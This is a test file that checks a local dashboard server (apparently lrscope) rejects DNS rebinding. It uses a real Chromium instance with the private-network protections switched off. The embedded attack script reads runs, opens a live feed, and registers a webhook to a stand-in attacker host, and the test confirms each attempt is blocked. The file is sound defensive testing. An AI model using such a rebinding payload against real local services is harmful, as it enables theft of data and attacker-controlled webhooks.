// DNS rebinding from a real browser: Chromium resolves rebind.attacker.test to 127.0.0.1
// (--host-resolver-rules), as an attacker's DNS would once the victim has their page open. The
// attacker's page is then same-origin, to the browser, with the lrscope server on that port: its
// scripts may read replies and set any header. What stops it is the server checking the Host they
// carry. The page tries to read runs, open a live feed, add a webhook and load the dashboard.
// Chromium's own Private Network Access check (a page it saw come from the public internet may
// not call loopback) is switched off: other browsers have none, and the server must not rely on it.
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestServer } from '../helpers/server';
import { data, query } from '../helpers/trpc-http';
import { launchBrowser } from './browser';
import { createRun } from './seed';
import { startServer } from '../helpers/server';

const ATTACKER = 'rebind.attacker.test';
let server: TestServer;
let browser: Browser;

beforeAll(async () => {
  [server, browser] = await Promise.all([startServer({ args: [] }), launchBrowser([`--host-resolver-rules=MAP ${ATTACKER} 127.0.0.1`, '--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks'])]);
  await createRun(server.url, server.apiKey, { name: 'secret-run-name' });
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

// Runs in the attacker's page: everything it can learn or change through same-origin requests.
const ATTACK = `
window.attack = (async () => {
  const out = {};
  const read = async (name, url, init) => {
    try {
      const r = await fetch(url, init);
      out[name] = { status: r.status, text: (await r.text()).slice(0, 2000) };
    } catch (e) {
      out[name] = { status: 0, text: String(e) };
    }
  };
  await read('runs', '/api/trpc/runs.list');
  await read('batch', '/api/trpc/runs.list,alerts.webhooks?batch=1&input=' + encodeURIComponent(JSON.stringify({ 0: {}, 1: { project: 'default' } })));
  await read('addWebhook', '/api/trpc/alerts.addWebhook', { method: 'POST', headers: { 'content-type': 'application/json', 'x-lrscope-dashboard': '1' }, body: JSON.stringify({ project: 'default', url: 'https://attacker.test/hook' }) });
  await read('page', '/alerts');
  await read('login', '/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'token=x' });
  out.feed = await new Promise((resolve) => {
    const got = [];
    const es = new EventSource('/api/trpc/live.runs?input=' + encodeURIComponent('{}'));
    es.onmessage = (e) => got.push(e.data);
    setTimeout(() => { es.close(); resolve(got); }, 2000);
  });
  return out;
})();
`;

describe('DNS rebinding', () => {
  it('the dashboard works from its own address in this browser', async () => {
    const page = await browser.newPage();
    await page.goto(`${server.url}/`);
    await page.getByText('secret-run-name').first().waitFor();
    await page.close();
  });

  it('a page on a rebound name gets nothing: no runs, no live feed, no webhook, no dashboard', async () => {
    const page = await browser.newPage();
    const origin = `http://${ATTACKER}:${server.port}`;
    // The attacker's own page, as their server sent it before the name was re-pointed.
    await page.route(`${origin}/`, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: `<!doctype html><title>cats</title><script>${ATTACK}</script>` }));
    await page.goto(`${origin}/`);
    const got = (await page.evaluate('window.attack')) as Record<string, any>;
    for (const name of ['runs', 'batch', 'addWebhook', 'page', 'login']) {
      expect(got[name].status, `${name}: ${got[name].text}`).toBe(403);
      expect(got[name].text).not.toContain('secret-run-name');
    }
    expect(got.runs.text).toMatch(/not one this server answers to/);
    expect(got.feed).toEqual([]);
    // Navigating there directly does not serve the dashboard's shell either.
    const direct = await page.goto(`${origin}/alerts`);
    expect(direct?.status()).toBe(403);
    await page.close();
    expect(data<unknown[]>(await query(server.url, 'alerts.webhooks', { project: 'default' }))).toEqual([]);
  });
});
